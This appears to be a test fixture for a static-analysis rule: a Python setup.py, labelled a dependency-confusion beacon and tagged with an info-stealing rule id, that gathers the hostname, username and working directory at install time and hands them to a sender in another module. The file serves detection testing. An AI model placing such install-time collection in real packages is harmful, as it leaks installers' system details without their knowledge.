import getpass
import os
import socket

from setuptools import setup

from fixture_beacon.net import send

# A dependency-confusion beacon: who and where, handed to a sender in another module.
info = {"hostname": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
# ruleid: code/info-stealing
send(info)

setup(name="fixture-beacon", version="1.0", packages=["fixture_beacon"])
